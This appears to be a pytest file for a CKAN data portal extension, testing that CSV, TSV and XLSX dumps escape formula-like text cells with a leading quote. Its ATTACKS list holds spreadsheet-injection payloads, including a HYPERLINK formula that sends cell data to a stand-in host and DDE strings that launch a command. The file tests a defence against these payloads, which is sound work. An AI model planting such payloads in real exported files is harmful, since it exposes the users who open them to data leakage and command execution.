"""No file the portal writes carries a live spreadsheet formula (issue #12, 14): text cells
starting with = + - @ (or tab, CR) get a leading quote; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from ckan.tests import factories
from ckan.tests.helpers import call_action

from ckanext.transparency.spreadsheet import safe_cell, safe_delimited

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0",
           "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_text_gets_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, 3.5, "-5", "+3.25", "-1.5e3", "", "a=b", "Suv", None,
                                   "'=already quoted"])
def test_numbers_and_plain_text_stay(value):
    assert safe_cell(value) == value


def test_a_page_of_rows_keeps_its_number_columns():
    page = 'x,-5,"=1+1"\n"@a, b",-7,"multi\nline"\n'
    safe = safe_delimited(page, ",", [True, False, True])
    assert list(csv.reader(io.StringIO(safe))) == [
        ["x", "-5", "'=1+1"], ["'@a, b", "-7", "multi\nline"]]
    quiet = "a,1\nb,2\n"
    assert safe_delimited(quiet, ",", [True, False]) is quiet


@pytest.fixture
def table(clean_db, with_plugins):
    """A public DataStore table with a text and a number column."""
    resource = factories.Resource(package_id=factories.Dataset()["id"], format="PDF")
    records = [{"note": attack, "amount": -5} for attack in ATTACKS]
    records += [{"note": "-5", "amount": 7}, {"note": "Oddiy matn", "amount": None}]
    call_action("datastore_create", context={"user": factories.Sysadmin()["name"]},
                resource_id=resource["id"], force=True, records=records,
                fields=[{"id": "note", "type": "text"}, {"id": "amount", "type": "int"}])
    return resource["id"], records


@pytest.mark.parametrize("query, delimiter", [
    ("format=csv", ","), ("format=tsv", "\t"), ("format=csv&labels=true", ","),
    ("format=tsv&labels=true&bom=true", "\t"), ("", ",")])
def test_datastore_dumps_carry_no_formula(app, table, query, delimiter):
    resource_id, records = table
    response = app.get(f"/datastore/dump/{resource_id}?{query}")
    assert response.status_code == 200
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    header, body = rows[0], rows[1:]
    note, amount = header.index("note"), header.index("amount")
    assert [r[note] for r in body] == ["'" + a for a in ATTACKS] + ["-5", "Oddiy matn"]
    assert [r[amount] for r in body] == ["-5"] * len(ATTACKS) + ["7", ""]
    if "labels" not in query:  # CKAN's own columns, _id first
        assert header == ["_id", "note", "amount"]


def test_the_xlsx_dump_writes_text_never_formulas(app, table):
    resource_id, _ = table
    response = app.get(f"/datastore/dump/{resource_id}?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in cells for c in row)
    assert cells[0][0].value == ATTACKS[0] and cells[0][1].value == -5
